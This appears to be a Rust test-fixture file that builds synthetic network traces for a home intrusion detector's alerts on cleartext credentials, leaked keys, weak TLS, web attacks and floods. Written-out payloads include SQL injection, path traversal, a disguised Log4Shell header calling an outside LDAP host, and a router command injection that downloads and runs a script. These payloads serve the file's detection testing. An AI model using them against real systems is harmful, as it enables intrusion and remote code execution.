//! What can be read on the wire: cleartext_credentials, sensitive_data, weak_tls, web_attack, suspicious_agent,
//! http_flood.
//!
//! Every password, card number and key in here is made up and contains [`SECRET`] or stands in [`SECRETS`], so that a
//! test can look for it where it must never be.

use super::{Scenario, alert, raises, silent};
use crate::traffic::conversation::Conversation;
use crate::traffic::home::{background, culprit, gateway, lan, lan6, nas, outside};
use crate::traffic::packet::{End, Host};
use crate::traffic::talk::{FAR, NEAR};
use crate::traffic::tls;
use crate::traffic::trace::Trace;
use crate::traffic::{MIN, MS, SEC};

/// Part of every password here.
pub const SECRET: &str = "Kwartel7391";
/// What else must not be found anywhere: the password in base64 at its three alignments, a card number, a key.
pub const SECRETS: [&str; 6] = [
    SECRET,
    "S3dhcnRlbDczOT",
    "t3YXJ0ZWw3Mzkx",
    "Ld2FydGVsNzM5M",
    "4539578763621486",
    "AKIAQ7WERTYUIOPASDFG",
];

/// The scenarios of this file.
pub const TABLE: &[Scenario] = &[
    raises(
        "cleartext_credentials",
        &[alert("cleartext_credentials", "192.168.1.20", "192.168.1.10")],
        "One FTP log-in from the laptop to the file server, accepted.",
        ftp,
    ),
    silent(
        "cleartext_credentials_under",
        "FTP, SMTP and IMAP that go on under TLS before the password, POP3 with APOP, anonymous FTP, a refused log-in.",
        protected,
    ),
    silent(
        "cleartext_credentials_harmless",
        "A printer driver that asks three printers with the SNMP community public; router pages with a hashed password; \
         HTTP digest; a password on the wire of a VNC session, encrypted.",
        harmless,
    ),
    raises(
        "cleartext_credentials_mail",
        &[
            alert("cleartext_credentials", "192.168.1.20", "198.51.100.25"),
            alert("cleartext_credentials", "192.168.1.21", "198.51.100.25"),
        ],
        "SMTP with AUTH LOGIN, POP3 and IMAP log-ins to a mail server outside.",
        mail,
    ),
    raises(
        "cleartext_credentials_web",
        &[
            alert("cleartext_credentials", "192.168.1.20", "192.168.1.40"),
            alert("cleartext_credentials", "192.168.1.21", "198.51.100.30"),
        ],
        "Basic credentials for a camera; a form with a password to a site outside, the third request of a connection \
         after a download of 300 KB.",
        web,
    ),
    raises(
        "cleartext_credentials_telnet_ipv6",
        &[alert("cleartext_credentials", "fd00:0:0:1::14", "fd00:0:0:1::1")],
        "Telnet to the router over IPv6, typed letter by letter with echo.",
        telnet,
    ),
    raises(
        "cleartext_credentials_snmp",
        &[alert("cleartext_credentials", "192.168.1.20", "192.168.1.40")],
        "SNMP v2c with a community of the owner's own.",
        |t| snmp(t, 1, format!("{SECRET}-snmp").as_bytes()),
    ),
    raises(
        "cleartext_credentials_self",
        &[alert("cleartext_credentials", "192.168.1.10", "192.168.1.10")],
        "The file server logs in to its own FTP under its own address, as a capture on its loopback shows it.",
        |t| {
            background(t, 0, 40 * SEC, 3);
            t.ftp_login(10 * SEC, nas(), nas(), "backup", SECRET, true);
        },
    ),
    raises(
        "sensitive_data",
        &[alert("sensitive_data", "192.168.1.20", "198.51.100.13")],
        "An order form with a card number, sent to a shop without encryption.",
        card,
    ),
    silent(
        "sensitive_data_under",
        "Forms with numbers of sixteen digits that are no cards, or one that is not called a card.",
        numbers,
    ),
    silent(
        "sensitive_data_harmless",
        "A signed address with the name of an access key; a certificate; a manual about private keys; tracking numbers.",
        manual,
    ),
    raises(
        "sensitive_data_mail",
        &[alert("sensitive_data", "192.168.1.20", "198.51.100.25")],
        "A private key in a mail that travels readable.",
        mailed_key,
    ),
    raises(
        "sensitive_data_cloud_ipv6",
        &[alert("sensitive_data", "fd00:0:0:1::14", "2001:db8:5::9")],
        "A key of a cloud service in a JSON document, posted over IPv6.",
        cloud_key,
    ),
    raises(
        "weak_tls",
        &[alert("weak_tls", "192.168.1.20", "198.51.100.60")],
        "A site that chooses RC4 under TLS 1.2, asked three times.",
        |t| weak(t, 0x0303, 0x0005, ("Good CA", "old.example", "290101000000Z")),
    ),
    silent("weak_tls_under", "A plug whose cloud speaks TLS 1.0 with a sound cipher: low.", |t| {
        weak(t, 0x0301, 0x002f, ("Good CA", "cloud.example", "290101000000Z"))
    }),
    silent("weak_tls_harmless", "The pages of router and file server, which sign for themselves.", own_pages),
    raises(
        "weak_tls_expired",
        &[alert("weak_tls", "192.168.1.20", "198.51.100.60")],
        "A site whose certificate ended two years before the capture.",
        |t| weak(t, 0x0303, 0xc02f, ("Good CA", "late.example", "240310000000Z")),
    ),
    raises(
        "weak_tls_ssl3",
        &[alert("weak_tls", "192.168.1.20", "198.51.100.60")],
        "A site that chooses SSL 3.0.",
        |t| weak(t, 0x0300, 0x002f, ("Good CA", "older.example", "290101000000Z")),
    ),
    raises(
        "weak_tls_self_signed",
        &[alert("weak_tls", "192.168.1.20", "198.51.100.60")],
        "A site outside that signs for itself.",
        |t| weak(t, 0x0303, 0xc02f, ("mine.example", "mine.example", "290101000000Z")),
    ),
    raises(
        "web_attack",
        &[alert("web_attack", "198.51.100.99", "192.168.1.10")],
        "SQL injection from the Internet into a page of the file server, which answers with an error of its database.",
        injection,
    ),
    silent(
        "web_attack_under",
        "Single odd requests: one quote too many, one look for a system file.",
        single_signs,
    ),
    silent(
        "web_attack_harmless",
        "A search for select and union, an author who posts a page with a script in it, a database tool, ../ in a path.",
        authors,
    ),
    raises(
        "web_attack_traversal",
        &[alert("web_attack", "192.168.1.66", "192.168.1.40")],
        "A host inside reads the password file of a camera.",
        traversal,
    ),
    raises(
        "web_attack_log4shell_ipv6",
        &[alert("web_attack", "2001:db8:bad::99", "fd00:0:0:1::a")],
        "Log4Shell in a header, in disguise, over IPv6.",
        log4shell,
    ),
    raises(
        "web_attack_bot",
        &[alert("web_attack", "192.168.1.66", "")],
        "An infected host inside that tries to make web servers outside download and run a program.",
        bot,
    ),
    raises(
        "suspicious_agent",
        &[alert("suspicious_agent", "192.168.1.66", "192.168.1.10")],
        "Nikto asks the file server for ten pages.",
        |t| agents(t, culprit(), &["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"; 10]),
    ),
    silent("suspicious_agent_under", "Names in which the name of a tool stands by accident.", |t| {
        agents(t, lan(20), &["Dehydrated/0.7", "Mozilla/5.0 (comparos/1)", "ThermoNiktor/2"])
    }),
    silent("suspicious_agent_harmless", "Package managers, monitors and a browser.", |t| {
        agents(
            t,
            lan(20),
            &["Debian APT-HTTP/1.3 (2.6.1)", "curl/8.5.0", "pip/24.0", "Wget/1.21", "Uptime-Kuma/1.23"],
        );
    }),
    raises(
        "http_flood",
        &[alert("http_flood", "192.168.1.66", "192.168.1.10")],
        "260 requests for one page over 26 connections in eight seconds.",
        |t| flood(t, culprit(), nas(), (26, 10), |_| "/".to_owned(), 200),
    ),
    silent("http_flood_under", "150 requests for one page over 15 connections in eight seconds.", |t| {
        flood(t, culprit(), nas(), (15, 10), |_| "/".to_owned(), 200)
    }),
    silent(
        "http_flood_harmless",
        "A page with 180 pictures over six connections, fetched twice within ten seconds.",
        |t| flood(t, lan(20), nas(), (6, 60), |i| format!("/thumbs/{}.jpg", i % 180), 200),
    ),
    raises(
        "http_flood_errors_ipv6",
        &[alert("http_flood", "fd00:0:0:1::42", "fd00:0:0:1::a")],
        "300 requests for pages that are not there, over three connections, over IPv6.",
        |t| flood(t, lan6(66), lan6(10), (3, 100), |i| format!("/{i:x}{}", i * 7919), 404),
    ),
    raises(
        "http_flood_slowloris",
        &[alert("http_flood", "192.168.1.66", "192.168.1.10")],
        "60 connections that send a line of a request head each eight seconds and never end it.",
        slowloris,
    ),
];

fn rtt(a: Host, b: Host) -> i64 {
    if a.ttl == 64 && b.ttl == 64 { NEAR } else { FAR }
}

fn open(t: &mut Trace, at: i64, client: Host, server: End) -> Conversation<'_> {
    let from = client.port(t.rng.port());
    Conversation::open(t, at, rtt(client, server.host), from, server)
}

/// A dialogue: lines that begin with `<` are the server's, the others the client's.
fn dialogue(t: &mut Trace, at: i64, client: Host, server: End, lines: &[&str]) {
    let mut c = open(t, at, client, server);
    for line in lines {
        match line.strip_prefix('<') {
            Some(answer) => c.server(format!("{answer}\r\n")),
            None => c.client(format!("{line}\r\n")),
        }
        c.wait(20 * MS);
    }
    c.close(true);
}

const OK: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok";

fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nHost: web\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
}

fn post(path: &str, kind: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: web\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

const FORM: &str = "application/x-www-form-urlencoded";

fn ftp(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    t.ftp_login(12 * SEC, lan(20), nas(), "anna", SECRET, true);
}

fn protected(t: &mut Trace) {
    background(t, 0, 60 * SEC, 4);
    let server = outside("198.51.100.25");
    let sealed = |t: &mut Trace, at, port, lines: &[&str]| {
        let mut c = open(t, at, lan(20), server.port(port));
        for line in lines {
            match line.strip_prefix('<') {
                Some(answer) => c.server(format!("{answer}\r\n")),
                None => c.client(format!("{line}\r\n")),
            }
        }
        let flight = tls::client_flight(&mut c.trace.rng, "mail.example");
        c.client(flight);
        let flight = tls::server_flight(&mut c.trace.rng);
        c.server(flight);
        let login = tls::sealed(&mut c.trace.rng, 80);
        c.client(login);
        c.close(true);
    };
    sealed(t, 5 * SEC, 21, &["<220 FTP ready", "AUTH TLS", "<234 AUTH TLS OK."]);
    sealed(
        t,
        12 * SEC,
        587,
        &["<220 mail ESMTP", "EHLO a", "<250-mail\r\n250 STARTTLS", "STARTTLS", "<220 go"],
    );
    sealed(t, 20 * SEC, 143, &["<* OK ready", "a STARTTLS", "<a OK begin"]);
    let apop = "APOP anna c4c9334bac560ecc979e58001b3e22fb";
    dialogue(
        t,
        28 * SEC,
        lan(20),
        server.port(110),
        &["<+OK <1896.6@mail>", apop, "<+OK 2 messages", "QUIT"],
    );
    t.ftp_login(35 * SEC, lan(20), outside("198.51.100.26"), "anonymous", "guest@", true);
    t.ftp_login(42 * SEC, lan(21), nas(), "anna", SECRET, false);
}

fn harmless(t: &mut Trace) {
    background(t, 0, 60 * SEC, 4);
    for printer in 41..44 {
        for i in 0..5 {
            snmp_get(t, i * 10 * SEC + SEC, lan(20), lan(printer), 1, b"public");
        }
    }
    let hashed = post("/login.lua", FORM, "username=anna&password=5f4dcc3b5aa765d61d8327deb882cf99");
    t.http(8 * SEC, lan(20), gateway().port(80), &hashed, OK);
    let digest = "GET /v HTTP/1.1\r\nHost: cam\r\nAuthorization: Digest username=\"anna\", response=\"0a4f113b\"\r\n\r\n";
    t.http(15 * SEC, lan(20), lan(40).port(80), digest, OK);
    let mut c = open(t, 30 * SEC, lan(20), nas().port(5900));
    c.server("RFB 003.008\n");
    c.client("RFB 003.008\n");
    c.server([1, 2]);
    c.client([2]);
    c.server([7; 16]);
    c.client([9; 16]);
    c.server([0; 4]);
    c.close(true);
}

/// An SNMP request for the name of the system, and its answer.
fn snmp_get(t: &mut Trace, at: i64, client: Host, agent: Host, version: u8, community: &[u8]) {
    let message = |kind: u8| {
        let pdu = [
            &[kind, 25, 2, 1, 1, 2, 1, 0, 2, 1, 0, 0x30, 14, 0x30, 12, 6, 8][..],
            &[0x2b, 6, 1, 2, 1, 1, 5, 0],
            &[5, 0],
        ];
        let body = [&[2, 1, version, 4, community.len() as u8][..], community, &pdu.concat()].concat();
        [&[0x30, body.len() as u8][..], &body].concat()
    };
    let from = client.port(t.rng.port());
    t.udp(at, from, agent.port(161), &message(0xa0));
    t.udp(at + 2 * MS, agent.port(161), from, &message(0xa2));
}

fn snmp(t: &mut Trace, version: u8, community: &[u8]) {
    background(t, 0, 40 * SEC, 3);
    for i in 0..3 {
        snmp_get(t, (5 + 10 * i) * SEC, lan(20), lan(40), version, community);
    }
}

fn mail(t: &mut Trace) {
    background(t, 0, MIN, 4);
    let server = outside("198.51.100.25");
    // base64 of "anna" and of the secret.
    let login = ["AUTH LOGIN", "<334 VXNlcm5hbWU6", "YW5uYQ==", "<334 UGFzc3dvcmQ6", "S3dhcnRlbDczOTE="];
    let smtp =
        [&["<220 mail ESMTP", "EHLO pc", "<250 AUTH LOGIN"][..], &login, &["<235 ok", "QUIT"]].concat();
    dialogue(t, 8 * SEC, lan(20), server.port(587), &smtp);
    let pass = format!("PASS {SECRET}");
    dialogue(
        t,
        20 * SEC,
        lan(20),
        server.port(110),
        &["<+OK ready", "USER anna", "<+OK", &pass, "<+OK in", "QUIT"],
    );
    let login = format!("a1 LOGIN anna \"{SECRET}\"");
    dialogue(t, 32 * SEC, lan(21), server.port(143), &["<* OK ready", &login, "<a1 OK LOGIN completed"]);
}

fn web(t: &mut Trace) {
    background(t, 0, MIN, 4);
    // base64 of "admin:" and the secret.
    let basic =
        "GET /snapshot HTTP/1.1\r\nHost: cam\r\nAuthorization: Basic YWRtaW46S3dhcnRlbDczOTE=\r\n\r\n";
    for i in 0..5 {
        t.http((5 + 5 * i) * SEC, lan(20), lan(40).port(80), basic, OK);
    }
    let mut c = open(t, 12 * SEC, lan(21), outside("198.51.100.30").port(8080));
    c.mss = 8_000;
    c.client(get("/"));
    c.server(OK);
    c.client(get("/big.bin"));
    c.server("HTTP/1.1 200 OK\r\nContent-Type: application/zip\r\nContent-Length: 300000\r\n\r\n");
    c.send(false, &[], 300_000);
    c.client(post("/login", FORM, &format!("user=anna&password={SECRET}&go=1")));
    c.server("HTTP/1.1 302 Found\r\nLocation: /\r\nContent-Length: 0\r\n\r\n");
    c.close(true);
}

fn telnet(t: &mut Trace) {
    background(t, 0, 40 * SEC, 3);
    let mut c = open(t, 10 * SEC, lan6(20), lan6(1).port(23));
    c.server([255, 253, 24, 255, 251, 1]);
    c.client([255, 252, 24, 255, 253, 1]);
    c.server("\r\nrouter login: ");
    for (text, echo) in [("root\r", true), (&format!("{SECRET}\r"), false)] {
        for letter in text.chars() {
            c.client(letter.to_string());
            c.wait(90 * MS);
            if echo {
                c.server(letter.to_string());
            }
        }
        c.server(if echo { "\nPassword: " } else { "\r\n\r\nBusyBox v1.30\r\n# " });
    }
    c.client("exit\r\n");
    c.close(false);
}

fn card(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let body = "name=Anna&cardnumber=4539578763621486&cvv=123&expires=11%2F28";
    t.http(12 * SEC, lan(20), outside("198.51.100.13").port(80), &post("/order", FORM, body), OK);
}

fn numbers(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let shop = outside("198.51.100.13").port(80);
    for (i, body) in
        ["cardnumber=4539578763621487", "id=5555555555554444&at=1773514800123456", "card=45395787636214861"]
            .iter()
            .enumerate()
    {
        t.http((5 + 8 * i as i64) * SEC, lan(20), shop, &post("/order", FORM, body), OK);
    }
}

fn manual(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let site = outside("198.51.100.13").port(80);
    let signed = "/b/photo.jpg?AWSAccessKeyId=AKIAQ7WERTYUIOPASDFG&Expires=1773518400&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D";
    t.http(5 * SEC, lan(20), site, &get(signed), OK);
    let text = "-----BEGIN CERTIFICATE-----\nMIIEpAIBAAKCAQEA0123456789abcdefghijklmnop\n-----END CERTIFICATE-----\n\
        Paste your key between -----BEGIN PRIVATE KEY----- and -----END PRIVATE KEY-----.\n\
        Parcels: 4000123412341234 5500001234567890 6011000012345678 340000123456789\n";
    let page = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{text}",
        text.len()
    );
    t.http(14 * SEC, lan(20), site, &get("/manual.txt"), &page);
}

fn mailed_key(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let key = "MIIEpAIBAAKCAQEAKwartel7391mnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUV";
    let lines = [
        "<220 mail ESMTP",
        "EHLO pc",
        "<250 ok",
        "MAIL FROM:<anna@home.example>",
        "<250 ok",
        "RCPT TO:<bob@mail.example>",
        "<250 ok",
        "DATA",
        "<354 go",
        &format!(
            "Subject: the key\r\n\r\n-----BEGIN RSA PRIVATE KEY-----\r\n{key}\r\n-----END RSA PRIVATE KEY-----\r\n."
        ),
        "<250 ok",
        "QUIT",
    ];
    dialogue(t, 10 * SEC, lan(20), outside("198.51.100.25").port(25), &lines);
}

fn cloud_key(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let body = r#"{"bucket": "backup", "aws_access_key_id": "AKIAQ7WERTYUIOPASDFG"}"#;
    t.http(
        12 * SEC,
        lan6(20),
        outside("2001:db8:5::9").port(80),
        &post("/api", "application/json", body),
        OK,
    );
}

/// Three visits to a server outside that chooses this version, cipher and certificate (issuer, subject, end).
fn weak(t: &mut Trace, version: u16, cipher: u16, certificate: (&str, &str, &str)) {
    background(t, 0, 50 * SEC, 4);
    for i in 0..3 {
        old_tls(t, (8 + 12 * i) * SEC, outside("198.51.100.60").port(443), version, cipher, certificate);
    }
}

fn old_tls(
    t: &mut Trace,
    at: i64,
    server: End,
    version: u16,
    cipher: u16,
    (issuer, subject, until): (&str, &str, &str),
) {
    let certificate = tls::certificate(issuer, subject, until);
    let mut c = open(t, at, lan(20), server);
    let flight = tls::client_flight(&mut c.trace.rng, subject);
    c.client(flight);
    let flight = tls::old_server_flight(&mut c.trace.rng, version, cipher, &certificate);
    c.server(flight);
    let flight = tls::client_finish(&mut c.trace.rng);
    c.client(flight);
    let page = tls::sealed(&mut c.trace.rng, 900);
    c.server(page);
    c.close(true);
}

fn own_pages(t: &mut Trace) {
    background(t, 0, 50 * SEC, 6);
    old_tls(t, 8 * SEC, gateway().port(443), 0x0303, 0xc02f, ("fritz.box", "fritz.box", "380115000000Z"));
    old_tls(t, 20 * SEC, nas().port(5001), 0x0303, 0xc02f, ("nas", "nas", "240115000000Z"));
}

fn injection(t: &mut Trace) {
    background(t, 0, 50 * SEC, 4);
    let attacker = outside("198.51.100.99");
    let error = "You have an error in your SQL syntax; check the manual";
    let page = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{error}",
        error.len()
    );
    for (i, target) in [
        "/item.php?id=1%27",
        "/item.php?id=1%20AND%205432%3D5432",
        "/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        "/item.php?id=1%20AND%20SLEEP%285%29",
        "/item.php?id=1%27%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--%20-",
    ]
    .iter()
    .enumerate()
    {
        let answer = if i == 2 { &page } else { OK };
        t.http((8 + 4 * i as i64) * SEC, attacker, nas().port(80), &get(target), answer);
    }
}

fn single_signs(t: &mut Trace) {
    background(t, 0, 50 * SEC, 4);
    t.http(
        8 * SEC,
        outside("198.51.100.99"),
        nas().port(80),
        &get("/item.php?name=O%27Brien%27%20--%20x"),
        OK,
    );
    t.http(14 * SEC, outside("198.51.100.98"), nas().port(80), &get("/?f=/etc/passwd"), OK);
    t.http(20 * SEC, lan(20), nas().port(80), &get("/find?q=%3Cscript%3E"), OK);
}

fn authors(t: &mut Trace) {
    background(t, 0, 50 * SEC, 4);
    let web = nas().port(80);
    t.http(5 * SEC, lan(20), web, &get("/search?q=select+a+union+or+group"), OK);
    t.http(9 * SEC, lan(20), web, &get("/app/../assets/../logo.png"), OK);
    let page =
        "title=Tips&text=Use+%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E+and+%3Csvg+onload%3Dx()%3E";
    t.http(14 * SEC, lan(20), web, &post("/wp-admin/post.php", FORM, page), OK);
    let query = "db=home&sql_query=SELECT+table_name+FROM+information_schema.tables+UNION+SELECT+1";
    t.http(20 * SEC, lan(20), web, &post("/phpmyadmin/import.php", FORM, query), OK);
    t.http(26 * SEC, lan(20), web, &get("/cgi-bin/api.cgi?cmd=GetDevInfo&token=1"), OK);
}

fn traversal(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let file = "root:x:0:0:root:/root:/bin/sh\nnobody:x:99:99::/:/bin/false\n";
    let answer = format!("HTTP/1.0 200 OK\r\nServer: httpd\r\n\r\n{file}");
    t.http(12 * SEC, culprit(), lan(40).port(80), &get("/cgi-bin/get?file=../../../../etc/passwd"), &answer);
}

fn log4shell(t: &mut Trace) {
    background(t, 0, 40 * SEC, 4);
    let request = "GET / HTTP/1.1\r\nHost: nas\r\nX-Api-Version: ${${lower:j}${::-n}di:ldap://[2001:db8:bad::9]/a}\r\n\r\n";
    t.http(12 * SEC, outside("2001:db8:bad::99"), lan6(10).port(8080), request, OK);
}

fn bot(t: &mut Trace) {
    background(t, 0, 50 * SEC, 4);
    let body = "XWebPageName=diag&diag_action=ping&dest_host=`wget+http://203.0.113.9/a.sh+-O+/tmp/a`;sh+/tmp/a&ipv=0";
    for i in 0..12u8 {
        let victim = outside(&format!("203.0.113.{}", 20 + i)).port(80);
        let at = (8 + 2 * i64::from(i)) * SEC;
        t.http(at, culprit(), victim, &post("/GponForm/diag_Form?images/", FORM, body), OK);
    }
}

fn agents(t: &mut Trace, client: Host, agents: &[&str]) {
    background(t, 0, 40 * SEC, 3);
    for (i, agent) in agents.iter().enumerate() {
        let request = format!("GET /page{i} HTTP/1.1\r\nHost: nas\r\nUser-Agent: {agent}\r\n\r\n");
        t.http((5 + 3 * i as i64) * SEC, client, nas().port(80), &request, OK);
    }
}

/// Requests within eight seconds: so many connections with so many requests each.
fn flood(
    t: &mut Trace,
    client: Host,
    server: Host,
    (connections, each): (i64, i64),
    target: impl Fn(i64) -> String,
    status: u16,
) {
    background(t, 0, 30 * SEC, 3);
    for connection in 0..connections {
        let begin = 8 * SEC + connection * 7 * SEC / connections.max(7);
        let mut c = open(t, begin, client, server.port(80));
        for i in 0..each {
            c.client(get(&target(connection * each + i)));
            c.server(format!("HTTP/1.1 {status} X\r\nContent-Length: 0\r\n\r\n"));
            c.wait(800 * MS / each);
        }
        c.close(true);
    }
}

fn slowloris(t: &mut Trace) {
    background(t, 0, 40 * SEC, 3);
    for i in 0..60 {
        let mut c = open(t, 5 * SEC + i * 40 * MS, culprit(), nas().port(80));
        c.client("GET /?x=1 HTTP/1.1\r\nHost: nas\r\n");
        for line in 0..3 {
            c.wait(8 * SEC);
            c.client(format!("X-a: {line}\r\n"));
        }
    }
}
